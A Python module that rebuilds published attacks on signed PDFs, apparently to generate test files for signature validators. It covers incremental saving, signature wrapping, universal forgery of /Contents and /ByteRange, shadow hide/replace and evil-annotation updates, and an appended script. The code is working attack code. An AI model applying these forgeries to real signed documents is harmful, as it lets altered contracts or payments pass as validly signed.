"""Attacks on signed PDFs as they were published, each built anew from a file that its holder signed.

Incremental saving, signature wrapping and universal forgery: Mladenov, Mainka, Meyer zu Selhausen, Grothe and Schwenk, “1 Trillion Dollar
Refund: How To Spoof PDF Signatures”, CCS 2019. Hide, replace, hide and replace: Mainka, Mladenov and Rohlmann, “Shadow Attacks: Hiding and
Replacing Content in Signed PDFs”, NDSS 2021. Evil annotations and sneaky signatures on certified files: Rohlmann, Mladenov, Mainka and
Schwenk, “Breaking the Specification: PDF Certification”, IEEE S&P 2021.
"""

import re
from collections.abc import Callable, Mapping
from io import BytesIO

import pikepdf
from returns.filling import terminal
from returns.pdf_attacks import ATTACKS, COVER, appearance_of

from assembler.formats.pdf.incremental_update import append_update

SignedAttack = Callable[[bytes], bytes]


def _updated(data: bytes, change: Callable[[pikepdf.Pdf], list[pikepdf.Object]]) -> bytes:
    """Return a file with the objects that a change returns appended behind its bytes."""
    with pikepdf.open(BytesIO(data)) as file:
        return append_update(data, file, change(file))


def _contents(file: pikepdf.Pdf) -> pikepdf.Object:
    contents = file.pages[1].obj.Contents
    return contents[0] if isinstance(contents, pikepdf.Array) else contents


def _other_contents(file: pikepdf.Pdf) -> list[pikepdf.Object]:
    page = file.pages[1].obj
    page.Contents = file.make_stream(COVER)
    page.Resources.XObject = pikepdf.Dictionary(Look=appearance_of(file, COVER))
    page.Contents.write(b"/Look Do")
    return [page]


def incremental_saving(data: bytes) -> bytes:
    """Append another page with cross-references of its own."""
    return _updated(data, _other_contents)


def _hidden_object(data: bytes) -> bytes:
    with pikepdf.open(BytesIO(data)) as file:
        number = _contents(file).objgen[0]
    return b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(COVER), COVER)


def without_cross_references(data: bytes) -> bytes:
    """Append another page without any cross-reference to it: some programs look for it (variant 1 of incremental saving)."""
    return data + _hidden_object(data)


def with_a_trailer_alone(data: bytes) -> bytes:
    """Append another page and a trailer that leads nowhere (variant 2)."""
    with pikepdf.open(BytesIO(data)) as file:
        root, size = file.Root.objgen[0], int(file.trailer.Size)
    return data + _hidden_object(data) + b"trailer\n<< /Root %d 0 R /Size %d >>\n" % (root, size)


def with_the_end_repeated(data: bytes) -> bytes:
    """Append another page, and the end of the file as it was (variant 3)."""
    return data + _hidden_object(data) + data[data.rindex(b"startxref") :]


def with_a_copy_of_the_signature(data: bytes) -> bytes:
    """Append another page and the signature once more, so that a program finds it in the last revision (variant 4)."""
    return _updated(data, lambda file: [*_other_contents(file), _signature(file)])


def signature_wrapping(data: bytes) -> bytes:
    """Move the second part of what was signed to the end, and put another page into the gap."""
    found = [*re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", data)][-1]
    first, second = int(found[2]), int(found[3])
    hidden = _hidden_object(data)
    moved = b"/ByteRange [0 %d %d %d" % (first, second + len(hidden), int(found[4]))
    wrapped = data[:second] + hidden + data[second:]
    return wrapped.replace(found[0], moved.ljust(len(found[0]))[: len(found[0])], 1)


def _signature(file: pikepdf.Pdf) -> pikepdf.Object:
    return next(field.V for _, field in terminal(file.Root.AcroForm.Fields, ()) if field.get("/FT") == "/Sig" and "/V" in field)


def forged(key: str, value: object) -> SignedAttack:
    """Return universal forgery: an update that takes away or empties a part of the signature."""

    def attack(data: bytes) -> bytes:
        def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
            signature = _signature(file)
            if value is None:
                del signature[key]
            else:
                signature[key] = value
            return [signature]

        return _updated(data, change)

    return attack


def behind_the_signature(data: bytes) -> bytes:
    """Write something into the zeros that fill up the place of the signature, which no signature covers."""
    found = [*re.finditer(rb"/Contents\s*<([0-9a-fA-F]+)>", data)][-1]
    return data[: found.end(1) - 40] + b"DEADBEEF" * 5 + data[found.end(1) :]


def in_the_place_of_the_signature(data: bytes) -> bytes:
    """End the signature early, and let another reason to sign stand in what is left of its place."""
    found = [*re.finditer(rb"/Contents\s*<([0-9a-fA-F]+)>", data)][-1]
    held = found[1].rstrip(b"0")
    other = held + b"0" * (2 + len(held) % 2) + b">/Reason(I agree to 20 percent)/ZZ<"
    return data[: found.start(1)] + other.ljust(len(found[1]), b"0") + data[found.end(1) :]


def signature_of_another_place(data: bytes) -> bytes:
    """Let a second place to sign, or where there is none the same one, show the signature of the first."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        places = [field for _, field in terminal(file.Root.AcroForm.Fields, ()) if field.get("/FT") == "/Sig"]
        place = next((each for each in places if "/V" not in each), places[-1])
        place.V = file.make_indirect(pikepdf.Dictionary(dict(_signature(file).items())))
        return [place, place.V]

    return _updated(data, change)


def another_name_of_the_signer(data: bytes) -> bytes:
    """Define the signature anew, with the same bytes and another name."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        signature = _signature(file)
        signature.Name = pikepdf.String("Somebody Else")
        return [signature]

    return _updated(data, change)


def shadow_replace_a_form(data: bytes) -> bytes:
    """Draw another value over one that stays, as an update of a form (replace by overlay)."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        field = next(field for _, field in terminal(file.Root.AcroForm.Fields, ()) if field.get("/FT") == "/Tx")
        field.AP = pikepdf.Dictionary(N=appearance_of(file, b"BT /Own 9 Tf 2 2 Td (EUR 1) Tj ET"))
        return [field]

    return _updated(data, change)


def shadow_replace_a_font(data: bytes) -> bytes:
    """Define a font of the pages anew, so that other letters are seen (replace)."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        fonts = [font for _, font in file.pages[1].obj.Resources.Font.items()]
        plain = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Symbol)
        for key in [name for name, _ in fonts[0].items()]:
            del fonts[0][key]
        for key, each in plain.items():
            fonts[0][key] = each
        return [fonts[0]]

    return _updated(data, change)


def shadow_hide(data: bytes) -> bytes:
    """Cover a page by a picture that the update brings (hide)."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        page = file.pages[1].obj
        page.Resources.XObject = pikepdf.Dictionary(Look=appearance_of(file, b"1 g 0 0 595 842 re f"))
        page.Contents = pikepdf.Array([_contents(file), file.make_indirect(file.make_stream(b"/Look Do"))])
        return [page]

    return _updated(data, change)


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Point the catalog at another tree of pages (hide and replace)."""

    def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
        page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=file.make_stream(COVER))
        page = file.make_indirect(page)
        tree = file.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Count=1, Kids=[page]))
        page.Parent = tree
        file.Root.Pages = tree
        return [file.Root]

    return _updated(data, change)


def by_update(kind: str) -> SignedAttack:
    """Return an attack on open files as an update: the pages, the catalog and the form with all that they hold."""

    def attack(data: bytes) -> bytes:
        def change(file: pikepdf.Pdf) -> list[pikepdf.Object]:
            ATTACKS[kind][0](file)
            fields = [field for _, field in terminal(file.Root.AcroForm.Fields, ())]
            held = [file.Root, *(page.obj for page in file.pages), *fields]
            form = file.Root.AcroForm
            return [*held, *([form] if form.is_indirect else [])]

        return _updated(data, change)

    return attack


SIGNED_ATTACKS: Mapping[str, SignedAttack] = {
    "incremental saving": incremental_saving,
    "incremental saving without cross-references": without_cross_references,
    "incremental saving with a trailer alone": with_a_trailer_alone,
    "incremental saving with the end repeated": with_the_end_repeated,
    "incremental saving with a copy of the signature": with_a_copy_of_the_signature,
    "signature wrapping": signature_wrapping,
    "forgery: no contents": forged("/Contents", None),
    "forgery: empty contents": forged("/Contents", pikepdf.String("")),
    "forgery: zero contents": forged("/Contents", pikepdf.String("\x00")),
    "forgery: contents of another type": forged("/Contents", pikepdf.Dictionary()),
    "forgery: no byte range": forged("/ByteRange", None),
    "forgery: empty byte range": forged("/ByteRange", pikepdf.Array([])),
    "forgery: negative byte range": forged("/ByteRange", pikepdf.Array([0, -1, -1, 0])),
    "forgery: no filter": forged("/SubFilter", None),
    "bytes behind the signature": behind_the_signature,
    "another reason in the place of the signature": in_the_place_of_the_signature,
    "the signature of another place": signature_of_another_place,
    "another name of the signer": another_name_of_the_signer,
    "shadow attack: replace a form's text": shadow_replace_a_form,
    "shadow attack: replace a font": shadow_replace_a_font,
    "shadow attack: hide": shadow_hide,
    "shadow attack: hide and replace": shadow_hide_and_replace,
    "evil annotation: note over words": by_update("a note that covers"),
    "evil annotation: note": by_update("a note"),
    "sneaky signature: signature field over words": by_update("a signature field over words"),
    "sneaky signature: field enlarged": by_update("a field enlarged over a page"),
    "evil annotation: link that draws": by_update("a link that draws"),
    "script": by_update("a program started"),
}
"""Each published attack, and what else may be appended to a signed file."""
